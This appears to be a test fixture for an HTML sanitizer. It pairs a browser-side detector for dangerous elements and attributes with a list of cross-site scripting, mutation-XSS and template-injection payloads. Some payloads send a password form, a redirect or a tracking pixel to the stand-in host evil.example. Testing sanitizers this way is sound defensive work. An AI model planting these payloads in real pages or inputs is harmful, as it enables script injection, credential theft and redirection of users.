/** HTML that would do harm, and how a browser tells that it did. */

/** What a page must not hold, as the browser itself read it: whatever runs, loads from elsewhere, or sends elsewhere. */
export const RUNNING = `[...document.querySelectorAll('*')].flatMap((one) => {
  const found = [];
  const name = one.localName;
  if (name === 'script' && one.type !== 'application/ld+json' && new URL(one.src || 'data:').origin !== location.origin) found.push(name);
  if (/^(?:iframe|object|embed|base|math|template|noscript|xmp|foreignobject|animate|set|use|video|audio|style|plaintext|frameset|applet|link-x)$/.test(name)) found.push(name);
  if (name === 'meta' && one.httpEquiv !== '') found.push('meta ' + one.httpEquiv);
  if (name === 'link' && new URL(one.href).origin !== location.origin && !['alternate', 'canonical'].includes(one.rel)) found.push('link ' + one.href);
  if (name === 'form' && new URL(one.action).origin !== location.origin) found.push('form ' + one.action);
  if (name === 'img' && !/^http/.test(one.src)) found.push('img ' + one.src);
  if (name === 'a' && one.href !== '' && !/^(?:https?|mailto):/.test(one.href)) found.push('a ' + one.href);
  for (const attribute of one.attributes)
    if (/^on|^style$|^srcdoc$|^formaction$|^background$|^target$/.test(attribute.name)) found.push(name + ' ' + attribute.name);
  return found;
})`;

/** Each would run, load or break out somewhere, if it were let through. */
export const NASTY = [
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)" style="position:fixed">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example/x">x</a>',
  '<a href="https://x.example" target="_blank" onmouseover=alert(1)>x</a>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<style><!--</style><img src=x onerror=alert(1)>--></style>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<plaintext><script>alert(1)</script>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name="password"></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<object data="x.swf"></object><embed src="x">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '</div></main></body><script>alert(1)</script>',
  '<p><b></p><script <b>>alert(1)</script>',
  '<a href="https://x.example/"><img src="https://evil.example/pixel.gif"></a>',
  '<p>a<br/onclick=alert(1)>b',
  '{{constructor.constructor("alert(1)")()}}${alert(1)}<%= 1 %>',
];
